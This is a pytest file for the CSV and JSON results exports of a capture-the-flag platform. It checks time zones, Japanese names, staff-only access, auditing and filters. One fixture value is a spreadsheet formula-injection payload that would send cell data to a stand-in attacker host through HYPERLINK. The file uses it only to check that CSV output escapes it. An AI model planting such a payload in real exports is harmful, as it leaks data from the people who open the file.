"""Results exports (エクスポート): final standings, solves, submissions and awards as CSV and JSON,
through the API, the staff page and the audit trail — names exactly as stored (Japanese, and one
that starts with "=", escaped in CSV only), times in the chosen zone, staff only."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from kizuna.services import challenges, event, scoreboard
from kizuna.storage import export_queries
from kizuna.storage import tables as t
from tests.conftest import auth, login, record_solve

JA = "東京チーム"
JA_USER = "山田太郎"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_USER = "@evil"
SUMMER = datetime(2026, 7, 1, 12, 0)  # London: BST (+01:00); Tokyo: +09:00
WINTER = datetime(2026, 1, 15, 12, 0)  # London: GMT (+00:00)
FLAG = "flag{export-must-not-show-this-definition}"

EXPECTED_TIMES = {
    ("Asia/Tokyo", SUMMER): "2026-07-01T21:00:00+09:00",
    ("Asia/Tokyo", WINTER): "2026-01-15T21:00:00+09:00",
    ("Europe/London", SUMMER): "2026-07-01T13:00:00+01:00",
    ("Europe/London", WINTER): "2026-01-15T12:00:00+00:00",
    ("UTC", SUMMER): "2026-07-01T12:00:00+00:00",
    ("UTC", WINTER): "2026-01-15T12:00:00+00:00",
}


@pytest.fixture
def results(make: Any, ctx: Any) -> dict[str, Any]:
    """Two teams — one with Japanese names, one whose names start with formula characters — each
    with a solve, a wrong submission and an award, at a summer and a winter time."""
    ja_user, ja_team = make.player_in_team(JA_USER, JA)
    evil_user, evil_team = make.player_in_team(EVIL_USER, EVIL)
    with ctx.write() as uow:
        uow.session.get(t.Team, ja_team.id).affiliation = "東京大学"
        uow.session.get(t.Team, ja_team.id).country = "JP"
        uow.session.get(t.Team, evil_team.id).affiliation = "+44 Cardiff"
        uow.session.get(t.Team, evil_team.id).country = "GB"
    ch = make.challenge(flag=FLAG, name="暗号 1", category="crypto", value=300)
    with ctx.write() as uow:
        record_solve(uow, ch.id, ja_user, ja_team.id, SUMMER)
        record_solve(uow, ch.id, evil_user, evil_team.id, WINTER)
        s = uow.session
        for user, team, when, typed in (
            (ja_user, ja_team, SUMMER, "フラグ？"),
            (evil_user, evil_team, WINTER, "=1+1"),
        ):
            s.add(
                t.Submission(
                    challenge_id=ch.id,
                    user_id=user.id,
                    team_id=team.id,
                    account_id=team.id,
                    provided=typed,
                    type="incorrect",
                    ip="203.0.113.7",
                    date=when,
                )
            )
        s.add(
            t.Award(
                user_id=None,
                team_id=ja_team.id,
                account_id=ja_team.id,
                name="最優秀解説",
                value=50,
                date=SUMMER,
            )
        )
        s.add(
            t.Award(
                user_id=None,
                team_id=evil_team.id,
                account_id=evil_team.id,
                name="=1+1",
                value=-20,
                date=WINTER,
            )
        )
    return {"ja": ja_team, "evil": evil_team, "ja_user": ja_user, "evil_user": evil_user, "challenge": ch}


def admin_headers(make: Any) -> dict[str, str]:
    return auth(make.token(make.admin()))


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]  # Excel reads UTF-8 only with the mark
    return list(csv.DictReader(io.StringIO(body[3:].decode("utf-8"), newline="")))


def fetch(
    client: TestClient, headers: dict[str, str], kind: str, fmt: str, zone: str
) -> list[dict[str, Any]]:
    r = client.get(f"/api/v1/exports/{kind}", params={"format": fmt, "tz": zone}, headers=headers)
    assert r.status_code == 200, r.text
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["content-disposition"].startswith(f'attachment; filename="kizuna-{kind}-')
    assert r.headers["content-disposition"].endswith(f'.{fmt}"')
    if fmt == "csv":
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        return read_csv(r.content)
    body = r.json()
    assert body["success"] is True
    assert body["meta"]["kind"] == kind and body["meta"]["time_zone"] == zone
    return list(body["data"])


def name_as_exported(fmt: str, name: str) -> str:
    return "'" + name if fmt == "csv" and name[0] in "=+-@" else name


ZONES = ("Asia/Tokyo", "Europe/London")


def _by(rows: list[dict[str, Any]], key: str, fmt: str, name: str) -> dict[str, Any]:
    [row] = [r for r in rows if r[key] == name_as_exported(fmt, name)]
    return row


def _int(value: Any) -> int:
    return int(value)


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("zone", ZONES)
def test_standings(backend, client, make, results, fmt, zone):
    rows = fetch(client, admin_headers(make), "standings", fmt, zone)
    # 300 + 50 for the Japanese team, 300 - 20 for the other.
    assert [(_int(r["rank"]), r["name"], _int(r["score"])) for r in rows] == [
        (1, JA, 350),
        (2, name_as_exported(fmt, EVIL), 280),
    ]
    ja, evil = rows
    assert (ja["affiliation"], ja["country"]) == ("東京大学", "JP")
    assert evil["affiliation"] == name_as_exported(fmt, "+44 Cardiff")
    assert ja["last_scored_at"] == EXPECTED_TIMES[(zone, SUMMER)]
    assert evil["last_scored_at"] == EXPECTED_TIMES[(zone, WINTER)]
    if fmt == "json":
        assert [m["name"] for m in ja["members"]] == [JA_USER]
        assert [m["name"] for m in evil["members"]] == [EVIL_USER]
        assert _int(ja["account_id"]) == results["ja"].id
    else:
        assert (ja["members"], evil["members"]) == (JA_USER, "'" + EVIL_USER)


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("zone", ZONES)
def test_solves(backend, client, make, results, fmt, zone):
    rows = fetch(client, admin_headers(make), "solves", fmt, zone)
    assert len(rows) == 2
    ja = _by(rows, "account", fmt, JA)
    evil = _by(rows, "account", fmt, EVIL)
    assert (ja["user"], ja["challenge"], ja["category"], _int(ja["value"])) == (
        JA_USER,
        "暗号 1",
        "crypto",
        300,
    )
    assert evil["user"] == name_as_exported(fmt, EVIL_USER)
    assert ja["date"] == EXPECTED_TIMES[(zone, SUMMER)]
    assert evil["date"] == EXPECTED_TIMES[(zone, WINTER)]
    assert ja["scored"] in (True, "true")
    assert _int(ja["challenge_id"]) == results["challenge"].id


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("zone", ZONES)
def test_submissions_carry_what_was_typed_and_the_address_but_never_a_flag(
    backend, client, make, results, fmt, zone
):
    headers = admin_headers(make)
    r = client.get("/api/v1/exports/submissions", params={"format": fmt, "tz": zone}, headers=headers)
    assert FLAG not in r.text  # the challenge's flag definition is never read
    rows = fetch(client, headers, "submissions", fmt, zone)
    assert len(rows) == 4  # two correct (the solves), two wrong
    wrong = [r for r in rows if r["result"] == "incorrect"]
    ja = _by(wrong, "account", fmt, JA)
    evil = _by(wrong, "account", fmt, EVIL)
    assert (ja["provided"], ja["user"], ja["address"]) == ("フラグ？", JA_USER, "203.0.113.7")
    assert evil["provided"] == name_as_exported(fmt, "=1+1")
    assert ja["date"] == EXPECTED_TIMES[(zone, SUMMER)]
    assert evil["date"] == EXPECTED_TIMES[(zone, WINTER)]
    assert ja["late"] in (False, "false")


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("zone", ZONES)
def test_awards(backend, client, make, results, fmt, zone):
    rows = fetch(client, admin_headers(make), "awards", fmt, zone)
    ja = _by(rows, "account", fmt, JA)
    evil = _by(rows, "account", fmt, EVIL)
    assert (ja["name"], _int(ja["value"]), ja["date"]) == ("最優秀解説", 50, EXPECTED_TIMES[(zone, SUMMER)])
    assert (evil["name"], evil["date"]) == (name_as_exported(fmt, "=1+1"), EXPECTED_TIMES[(zone, WINTER)])
    # A penalty stays a number a spreadsheet can add up.
    assert evil["value"] == (-20 if fmt == "json" else "-20")


def test_default_zone_is_utc_and_csv_is_the_default_format(client, make, results):
    r = client.get("/api/v1/exports/solves", headers=admin_headers(make))
    assert r.status_code == 200
    rows = read_csv(r.content)
    assert {row["date"] for row in rows} == {EXPECTED_TIMES[("UTC", SUMMER)], EXPECTED_TIMES[("UTC", WINTER)]}


def test_byte_order_mark_can_be_left_out(client, make, results):
    r = client.get("/api/v1/exports/standings", params={"bom": "false"}, headers=admin_headers(make))
    assert r.status_code == 200
    assert r.content.startswith(b"rank,account_id,name,")
    r = client.get("/api/v1/exports/standings", params={"bom": "maybe"}, headers=admin_headers(make))
    assert r.status_code == 400 and "bom" in r.json()["errors"]


def test_final_standings_ignore_the_freeze(client, make, ctx, results):
    """The public board hides what was scored after the freeze; the export (staff) does not."""
    late_user, late_team = make.player_in_team("遅い人", "凍結後チーム")
    ch = make.challenge(name="late", value=1000)
    freeze = datetime(2026, 8, 1)
    event.update_event(ctx, {"freeze_at": freeze})
    with ctx.write() as uow:
        record_solve(uow, ch.id, late_user, late_team.id, freeze + timedelta(hours=1))
    public = scoreboard.standings(ctx, freeze)
    assert public.rows[0].name == JA
    rows = fetch(client, admin_headers(make), "standings", "json", "UTC")
    assert (rows[0]["rank"], rows[0]["name"], rows[0]["score"]) == (1, "凍結後チーム", 1000)


@pytest.mark.parametrize(
    ("url", "field", "en", "ja"),
    [
        ("/api/v1/exports/scores", "kind", "“scores” is not an export", "「scores」"),
        (
            "/api/v1/exports/solves?format=xlsx",
            "format",
            "“xlsx” is not a format of this export",
            "「xlsx」",
        ),
        ("/api/v1/exports/solves?format=md", "format", "“md” is not a format of this export", "「md」"),
        (
            "/api/v1/exports/solves?tz=Mars/Olympus",
            "tz",
            "“Mars/Olympus” is not a time zone",
            "「Mars/Olympus」",
        ),
        ("/api/v1/exports/solves?tz=JST", "tz", "“JST” is not a time zone", "「JST」"),
    ],
)
def test_unknown_kind_format_or_zone_is_400_in_the_readers_language(client, make, ctx, url, field, en, ja):
    headers = admin_headers(make)
    r = client.get(url, headers={**headers, "Accept-Language": "en"})
    assert r.status_code == 400
    assert r.headers["content-type"].startswith("application/json")
    [message] = r.json()["errors"][field]
    assert message.startswith(en)
    r = client.get(url, headers={**headers, "Accept-Language": "ja"})
    assert r.status_code == 400
    [message] = r.json()["errors"][field]
    assert message.startswith(ja) and message.endswith("。")
    with ctx.db.read() as s:  # a refused export is not recorded as one
        assert s.query(t.AuditEntry).filter(t.AuditEntry.action == "results.exported").count() == 0


@pytest.mark.parametrize(("role", "status"), [("player", 403), ("author", 403), ("marshal", 403)])
def test_only_admins_and_judges_export(client, make, results, role, status):
    who = make.user(f"the-{role}", role=role)
    for kind in ("standings", "solves", "submissions", "awards", "writeups"):
        r = client.get(f"/api/v1/exports/{kind}", headers=auth(make.token(who)))
        assert r.status_code == status, (kind, r.text)
        assert JA not in r.text and "203.0.113.7" not in r.text
    anonymous = client.get("/api/v1/exports/submissions")
    assert anonymous.status_code == 401
    judge = make.user("judy", role="judge")
    assert client.get("/api/v1/exports/submissions", headers=auth(make.token(judge))).status_code == 200


def test_every_export_is_audited(backend, client, make, ctx, results):
    judge = make.user("judy", role="judge")
    r = client.get(
        "/api/v1/exports/submissions",
        params={"format": "json", "tz": "Asia/Tokyo"},
        headers=auth(make.token(judge)),
    )
    assert r.status_code == 200
    with ctx.db.read() as s:
        [entry] = s.query(t.AuditEntry).filter(t.AuditEntry.action == "results.exported").all()
    assert (entry.actor_id, entry.actor_name, entry.actor_role) == (judge.id, "judy", "judge")
    assert (entry.target_type, entry.target_id, entry.address) == ("export", "submissions", "testclient")
    assert entry.after == {"kind": "submissions", "format": "json", "time_zone": "Asia/Tokyo", "bom": False}
    admin = make.admin()
    trail = client.get("/api/v1/audit", params={"action": "results."}, headers=auth(make.token(admin))).json()
    assert [e["action_label"] for e in trail["data"]] == ["Results exported"]


def test_submissions_are_read_in_batches(ctx, make, results):
    """Bounded work: the rows are read a batch at a time (keyset), never the whole table at once."""
    reads = 0
    real = ctx.db.read

    def counting() -> Any:
        nonlocal reads
        reads += 1
        return real()

    rows = list(export_queries.iter_submissions(counting, "teams", batch=3))
    assert [r["id"] for r in rows] == sorted(r["id"] for r in rows) and len(rows) == 4
    assert reads == 2  # 3 + 1


# --- the staff page -------------------------------------------------------------------------------


def test_staff_page_links_to_every_export_in_the_chosen_zone(client, make, results):
    make.admin("root")
    login(client, "root")
    page = client.get("/admin/exports", params={"tz": "Asia/Tokyo", "bom": "false"})
    assert page.status_code == 200
    for kind in ("standings", "solves", "submissions", "awards"):
        assert f'href="/api/v1/exports/{kind}?format=csv&amp;tz=Asia%2FTokyo&amp;bom=false"' in page.text
        assert f'href="/api/v1/exports/{kind}?format=json&amp;tz=Asia%2FTokyo"' in page.text
    assert 'href="/api/v1/exports/writeups?format=md&amp;tz=Asia%2FTokyo"' in page.text
    # The link works with the session (a GET: no CSRF token needed).
    r = client.get("/api/v1/exports/standings?format=csv&tz=Asia%2FTokyo&bom=false")
    assert r.status_code == 200 and r.content.startswith(b"rank,")
    assert 'href="/admin/exports"' in client.get("/admin").text
    ja = client.get("/admin/exports", params={"lang": "ja"})
    assert "エクスポート" in ja.text


def test_staff_page_refuses_an_unknown_zone_with_a_message(client, make):
    make.admin("root")
    login(client, "root")
    page = client.get("/admin/exports", params={"tz": "Nowhere/Land"})
    assert page.status_code == 400
    assert "Nowhere/Land" in page.text and "/api/v1/exports/" not in page.text


def test_players_cannot_open_the_staff_page(client, make):
    make.user("alice")
    login(client, "alice")
    assert client.get("/admin/exports").status_code == 403


def test_individual_mode_standings_and_solves_of_hidden_challenges(backend, client, make, ctx):
    """In individual mode the accounts are users (their own affiliation and country, no members);
    a solve of a hidden challenge is listed but marked as not scored, as the board counts it."""
    event.update_event(ctx, {"mode": "users"})
    solo = make.user("一人", affiliation="=Lab", country="JP")
    shown = make.challenge(name="shown", value=100)
    hidden = make.challenge(name="hidden", value=500)
    with ctx.write() as uow:
        record_solve(uow, shown.id, solo, None, SUMMER)
        record_solve(uow, hidden.id, solo, None, WINTER)
    challenges.update_challenge(ctx, hidden.id, {"state": "hidden"})
    headers = admin_headers(make)
    [row] = fetch(client, headers, "standings", "json", "Asia/Tokyo")
    assert (row["name"], row["score"], row["members"], row["affiliation"], row["country"]) == (
        "一人",
        100,
        [],
        "=Lab",
        "JP",
    )
    [csv_row] = fetch(client, headers, "standings", "csv", "Asia/Tokyo")
    assert (csv_row["members"], csv_row["affiliation"]) == ("", "'=Lab")
    solves = {r["challenge"]: r for r in fetch(client, headers, "solves", "json", "UTC")}
    assert (solves["shown"]["scored"], solves["hidden"]["scored"]) == (True, False)
    assert solves["hidden"]["account"] == solves["hidden"]["user"] == "一人"


def test_any_board_can_be_exported_with_its_own_ranks_and_filters_in_the_audit(make, ctx, results):
    """The seam for filtered boards (per bracket or country): the standings rows come from the board
    given, in its order and with its ranks, and the filters that made it are audited."""
    from dataclasses import replace

    from kizuna.services import exports

    full = scoreboard.standings(ctx, None)
    only_gb = scoreboard.Board(full.mode, [replace(r, pos=1) for r in full.rows if r.name == EVIL])
    started = exports.start_export(ctx, "standings", "json", "UTC", board=only_gb, filters={"country": "GB"})
    document = json.loads(b"".join(started.chunks()))
    assert [(r["rank"], r["name"], r["country"]) for r in document["data"]] == [(1, EVIL, "GB")]
    with ctx.db.read() as s:
        [entry] = s.query(t.AuditEntry).filter(t.AuditEntry.action == "results.exported").all()
    assert entry.after is not None and entry.after["filters"] == {"country": "GB"}


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_standings_of_one_bracket_or_country_are_ranked_within_it(backend, client, make, ctx, results, fmt):
    """?bracket_id= and ?country= export that board's standings, its first place rank 1 (the
    Japanese team scored first, so on the full board the "=" team, solved later, is second)."""
    from kizuna.services import brackets

    open_bracket = brackets.create_bracket(ctx, {"name": "Open", "type": "teams"})
    with ctx.write() as uow:
        uow.session.get(t.Team, results["evil"].id).bracket_id = open_bracket.id
    headers = admin_headers(make)
    full = client.get("/api/v1/exports/standings", params={"format": fmt}, headers=headers)
    assert full.status_code == 200
    for params, name in (
        ({"bracket_id": str(open_bracket.id)}, EVIL),
        ({"country": "gb"}, EVIL),
        ({"country": "JP"}, JA),
    ):
        r = client.get("/api/v1/exports/standings", params={"format": fmt, **params}, headers=headers)
        assert r.status_code == 200, r.text
        rows = read_csv(r.content) if fmt == "csv" else r.json()["data"]
        assert [(_int(row["rank"]), row["name"]) for row in rows] == [(1, name_as_exported(fmt, name))]
    r = client.get(
        "/api/v1/exports/standings", params={"format": "json", "bracket_id": open_bracket.id}, headers=headers
    )
    [row] = r.json()["data"]
    assert (row["bracket_id"], row["bracket"]) == (open_bracket.id, "Open")
    with ctx.db.read() as s:
        audited = [
            e.after["filters"]
            for e in s.query(t.AuditEntry).filter(t.AuditEntry.action == "results.exported")
            if e.after and "filters" in e.after
        ]
    assert {"bracket_id": str(open_bracket.id)} in audited and {"country": "GB"} in audited


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"kind": "solves", "country": "JP"}, "country"),
        ({"kind": "standings", "country": "XX"}, "country"),
        ({"kind": "standings", "bracket_id": "one"}, "bracket_id"),
    ],
)
def test_a_board_filter_is_for_the_standings_and_must_be_well_formed(client, make, results, params, field):
    kind = params.pop("kind")
    r = client.get(f"/api/v1/exports/{kind}", params=params, headers=admin_headers(make))
    assert r.status_code == 400, r.text
    assert field in r.json()["errors"]


def test_staff_page_carries_the_bracket_and_country_into_the_standings_links(client, make, ctx, results):
    from kizuna.services import brackets

    students = brackets.create_bracket(ctx, {"name": "Students", "type": "teams"})
    make.admin("root")
    login(client, "root")
    page = client.get(
        "/admin/exports", params={"bracket_id": str(students.id), "country": "JP", "lang": "ja"}
    )
    assert page.status_code == 200
    assert (
        f'href="/api/v1/exports/standings?format=json&amp;tz=UTC&amp;bracket_id={students.id}&amp;country=JP"'
        in page.text
    )
    assert 'href="/api/v1/exports/solves?format=json&amp;tz=UTC"' in page.text  # filters only the standings
    assert "部門" in page.text
    bad = client.get("/admin/exports", params={"country": "XX"})
    assert bad.status_code == 400 and "/api/v1/exports/" not in bad.text
